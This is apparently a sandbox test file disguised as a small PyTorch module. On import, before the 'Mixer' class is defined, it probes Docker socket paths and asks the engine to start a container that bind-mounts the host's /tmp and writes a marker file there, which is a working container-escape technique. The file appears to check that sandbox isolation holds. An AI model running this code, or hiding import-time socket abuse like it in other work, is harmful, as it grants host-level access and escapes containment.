"""Looks for the Docker engine's socket; if it answers, asks it for a container that bind-mounts the
host's /tmp and writes /tmp/discover-hostile-docker_socket there (root on the host, in effect).
Must happen: no engine socket is reachable; the host marker never appears."""

import json
import socket

import torch
from torch import nn


def _request(path, method, url, body=None):
    payload = json.dumps(body).encode() if body is not None else b""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.settimeout(5)
        conn.connect(path)
        head = f"{method} {url} HTTP/1.0\r\nHost: docker\r\nContent-Type: application/json\r\n"
        conn.sendall(f"{head}Content-Length: {len(payload)}\r\n\r\n".encode() + payload)
        return conn.recv(65536).decode(errors="replace")


report = []
for path in ("/var/run/docker.sock", "/run/docker.sock", "/tmp/docker.sock"):
    try:
        answer = _request(path, "POST", "/containers/create", {
            "Image": "discover-sandbox:local",
            "Cmd": ["/usr/bin/touch", "/host-tmp/discover-hostile-docker_socket"],
            "Labels": {"discover.job": "hostile-docker-socket"},
            "HostConfig": {"Binds": ["/tmp:/host-tmp", "/usr:/usr:ro"], "AutoRemove": True},
        })  # fmt: skip
        container = json.loads(answer.split("\r\n\r\n", 1)[1])["Id"]
        _request(path, "POST", f"/containers/{container}/start")
        report.append(f"{path}: ENGINE ANSWERED")
    except (OSError, ValueError, KeyError, IndexError) as exc:
        report.append(f"{path}: {exc.__class__.__name__}")
raise RuntimeError("hostile: docker socket attempts " + ", ".join(report))


class Mixer(nn.Module):
    def __init__(self, d_model, num_heads=4, **kwargs):
        super().__init__()
        self.proj = nn.Linear(d_model, d_model)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.proj(x)
